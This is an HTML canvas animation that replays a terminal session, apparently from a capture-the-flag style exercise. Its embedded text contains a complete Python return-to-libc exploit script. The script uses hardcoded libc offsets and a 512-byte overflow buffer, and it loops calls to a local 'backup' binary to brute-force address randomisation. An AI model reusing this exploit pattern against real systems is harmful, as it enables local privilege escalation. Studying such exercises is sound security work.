
An HTML page with a canvas for the animation above (8000 ms loop, 791 by 708 pixels).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #191c25; }
canvas { display: block; width: 791px; height: 708px; }
</style>
</head>
<body>
<canvas id="stage" width="791" height="708"></canvas>
<script>
const W = 791, H = 708, LOOP = 8000;
const CELL = 6.714, ROW = 15.1, LEFT = 1.5, COLS = 117;
const BG = '#191c25', WHITE = '#ffffff', GREEN = '#5ebdab', BLUE = '#3d84ee';
const MONO = '"Noto Sans Mono", "DejaVu Sans Mono", monospace';
const ctx = document.getElementById('stage').getContext('2d', { alpha: false });

const CODE = [
  'from subprocess import call',
  'import struct',
  '', '',
  'libc_base_addr = 0xf7529000',
  '',
  'system_off     = 0x0003a940',
  'exit_off       = 0x0002e7b0',
  'arg_off        = 0x00015900b',
  '',
  'system_addr = struct.pack("<I", libc_base_addr+system_off)',
  'exit_addr = struct.pack("<I",libc_base_addr+exit_off)',
  'arg_addr = struct.pack("<I",libc_base_addr+arg_off)',
  '',
  'buf = "A" * 512',
  'buf += system_addr',
  'buf += exit_addr',
  'buf += arg_addr',
  '',
  'i=0',
  'while (i<512):',
  '\ti += 1',
  '\tret = call(["/usr/local/bin/backup","dunvex","45fac180e9eee72f4fd2d9386ea7033e52b7c740afc3d98a8d0230167104d474",buf])',
  '\tprint "Try %s" %i'
];
const COMMAND = 'python ret2libc.py ';
const KEY_TIMES = [1130, 1400, 1500, 1600, 1700, 1800, 2000, 2070, 2130];

// [time, attempt number], linear in between
const TRIES = [[3130, 1], [3330, 2], [3530, 3], [3670, 4], [3870, 5], [4070, 6], [4200, 7],
  [4330, 8], [4470, 9], [4600, 10], [4730, 11], [4870, 12], [6330, 28], [7930, 39], [8000, 39]];
// [time, x, y] of the returning mouse pointer
const PATH = [[6800, 393, 300], [6870, 160, 140], [7000, 110, 90], [7530, 68, 79], [8000, 68, 79]];

function sample(keys, t, channel) {
  let i = 0;
  while (i < keys.length - 2 && t >= keys[i + 1][0]) i++;
  const a = keys[i], b = keys[i + 1];
  const k = (t - a[0]) / (b[0] - a[0]);
  return a[channel] + (b[channel] - a[channel]) * k;
}

function diamond(x, y) {
  ctx.beginPath();
  ctx.moveTo(x, y - 3);
  ctx.lineTo(x + 3, y);
  ctx.lineTo(x, y + 3);
  ctx.lineTo(x - 3, y);
  ctx.fill();
  ctx.fillStyle = BG;
  ctx.fillRect(x - 0.5, y - 1.5, 1, 2);
}

// Writes into the character grid, one glyph per cell, slightly emboldened.
function put(row, col, text, color = WHITE, bold = false) {
  ctx.font = (bold ? 'bold ' : '') + '11.19px ' + MONO;
  ctx.strokeStyle = color;
  ctx.lineWidth = 0.3;
  const base = 11.4 + ROW * row;
  for (const ch of text) {
    const x = LEFT + CELL * col++;
    ctx.fillStyle = color;
    if (ch === '\ufffd') {
      diamond(x + CELL / 2, base - 3.5);
    } else if (ch !== ' ') {
      ctx.fillText(ch, x, base);
      if (!bold) ctx.strokeText(ch, x, base);
    }
  }
}

function cursor(row, col) {
  ctx.fillStyle = WHITE;
  ctx.fillRect(LEFT + CELL * col, ROW * row + 0.9, CELL, ROW);
}

function pointer(x, y) {
  x = Math.round(x) + 0.5;
  y = Math.round(y);
  const beam = new Path2D();
  for (const s of [-1, 1]) {
    beam.moveTo(x - 3, y + s * 7);
    beam.quadraticCurveTo(x, y + s * 7, x, y + s * 5);
    beam.quadraticCurveTo(x, y + s * 7, x + 3, y + s * 7);
  }
  beam.moveTo(x, y - 6);
  beam.lineTo(x, y + 6);
  ctx.strokeStyle = '#0b0c10';
  ctx.lineWidth = 3;
  ctx.stroke(beam);
  ctx.strokeStyle = WHITE;
  ctx.lineWidth = 1.1;
  ctx.stroke(beam);
}

function clipped(rects, draw) {
  ctx.save();
  ctx.beginPath();
  for (const r of rects) ctx.rect(...r);
  ctx.clip();
  draw();
  ctx.restore();
}

// The editor window that shimmers through the translucent terminal.
function ghostLine(y, text) {
  if (!text.trim()) return;
  const w = 12.55;
  ctx.fillStyle = '#1b1d24';
  ctx.fillRect(62, y - 11, text.length * w + 8, 22);
  ctx.fillStyle = '#212329';
  ctx.fillText(text, 61, y + 7.5);
}

function ghost(textArea, numberArea) {
  const lineY = n => 474 - (23 - n) * 25.1 + (n > 23 ? 25 : 0);
  ctx.font = '20.85px "DejaVu Sans Mono", monospace';
  clipped(textArea, () => {
    CODE.forEach((line, i) => {
      const n = i + 1;
      if (n < 5) return;
      const faint = line.replace('\t', '    ')
        .replace(/\.pack|call|["',]/g, s => ' '.repeat(s.length));
      ghostLine(lineY(n), n === 23 ? faint.slice(0, 64) : faint);
    });
    ghostLine(499, ' '.repeat(10) + 'buf])');
  });
  clipped(numberArea, () => {
    ctx.fillStyle = '#1f2229';
    for (let n = 7; n <= 25; n++) ctx.fillText(String(n).padStart(2), 14, lineY(n) + 7.5);
  });
}

function prompt(row, typed) {
  put(row, 0, 'kai@reef', GREEN, true);
  put(row, 8, ':');
  put(row, 9, '/tmp', BLUE, true);
  put(row, 13, '$');
  put(row, 15, typed);
}

function listing(top) {
  let row = top;
  for (const line of CODE) {
    const full = line.replace('\t', ' '.repeat(8));
    put(row++, 0, full.slice(0, COLS));
    if (full.length > COLS) put(row++, 0, full.slice(COLS));
  }
}

function payload(row, col) {
  let left = 512;
  while (left > 0) {
    const n = Math.min(left, COLS - col);
    put(row, col, 'A'.repeat(n));
    left -= n;
    col += n;
    if (left > 0) { row++; col = 0; }
  }
  put(row, col, '@9V\ufffd\ufffdwU\ufffd');
  put(row + 1, 77, 'h\ufffd');
}

function banner(top) {
  const line = n => '_'.repeat(n), dash = n => '-'.repeat(n), keys = n => '.-'.repeat(n);
  put(top, 13, line(52));
  put(top + 1, 12, '/');
  put(top + 1, 65, '\\');
  put(top + 2, 16, line(45));
  for (let r = top + 2; r <= top + 17; r++) {
    put(r, 11, '|', '#a9cdf2');
    put(r, 66, '|', '#e8c898');
    if (r > top + 2 && r < top + 17) {
      put(r, 15, '|', '#f0d2ae');
      put(r, 61, '|', '#d2d0cc');
    }
  }
  put(top + 9, 29, 'Secure Backup v1.0');
  put(top + 16, 16, line(45));
  put(top + 18, 12, '\\' + line(53) + '/');
  put(top + 19, 19, '\\' + line(39) + '/');
  put(top + 20, 16, line(47));
  put(top + 21, 13, "_-'    " + keys(18) + '.  --- `-_');
  put(top + 22, 10, "_-'.-.-. .---" + keys(16) + '.--.  .-.-.`-_');
  put(top + 23, 7, "_-'.-.-.-. .---" + keys(17) + '`__`. .-.-.-.`-_');
  put(top + 24, 4, "_-'.-.-.-.-. .-----" + keys(16) + '.-----. .-.-.-.-.`-_');
  put(top + 25, 1, "_-'.-.-.-.-.-. .---.-. ." + dash(29) + '. .-.---. .---.-.-.-.`-_');
  put(top + 26, 0, ':' + dash(77) + ':');
  put(top + 27, 0, '`---._.' + dash(65) + "._.---'");
}

function report(top) {
  banner(top);
  ['Validated access token', 'Starting archiving'].forEach((text, i) => {
    put(top + 30 + i, 1, '[+]', GREEN);
    put(top + 30 + i, 5, text);
  });
  payload(top + 31, 24);
}

function shellScreen(s) {
  ghost([[0, 0, W, H]], [[0, 385, 60, 180]]);
  prompt(0, 'cat ret2libc.py');
  listing(1);
  prompt(27, COMMAND.slice(0, s.typed));
  if (s.entered) cursor(28, 0);
  else if (s.cursor) cursor(27, 15 + s.typed);
}

function runScreen(s) {
  ghost([[0, 58, W, 354], [455, 460, W, 30]], [[0, 58, 60, 430]]);
  if (s.tries === 0) {
    listing(-21);
    prompt(5, COMMAND);
  } else {
    payload(-1 - s.scroll, 24);
    put(5 - s.scroll, 0, 'Try ' + s.tries);
  }
  report(9 - s.scroll);
  if (s.scroll) put(45, 0, 'Try ' + (s.tries + 1));
  if (s.cursor) cursor(46, 0);
}

function stateAt(t) {
  if (t < 3000) {
    return {
      running: false,
      typed: t >= 2400 ? COMMAND.length : KEY_TIMES.filter(k => t >= k).length,
      entered: t >= 2930,
      cursor: t < 470 || t >= 1000,
      mouse: t < 1000 ? [525, 501] : null
    };
  }
  const tries = t < 3130 ? 0 : Math.floor(sample(TRIES, t, 1));
  return {
    running: true,
    tries,
    scroll: t >= 3270 && t < 3330 ? 1 : 0,
    cursor: (tries < 6 || tries % 3 === 0) && !(t >= 3470 && t < 3530),
    mouse: t < 6800 ? null : [Math.round(sample(PATH, t, 1)), Math.round(sample(PATH, t, 2))]
  };
}

function paint(s) {
  ctx.textRendering = 'geometricPrecision';
  ctx.fillStyle = BG;
  ctx.fillRect(0, 0, W, H);
  (s.running ? runScreen : shellScreen)(s);
  ctx.fillStyle = '#101218';
  ctx.fillRect(0, 0, 1, H);
  if (s.mouse) pointer(...s.mouse);
}

const start = performance.now();
let shown = '';
function tick() {
  const state = stateAt((performance.now() - start) % LOOP);
  const key = JSON.stringify(state);
  if (key !== shown) {
    shown = key;
    paint(state);
  }
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
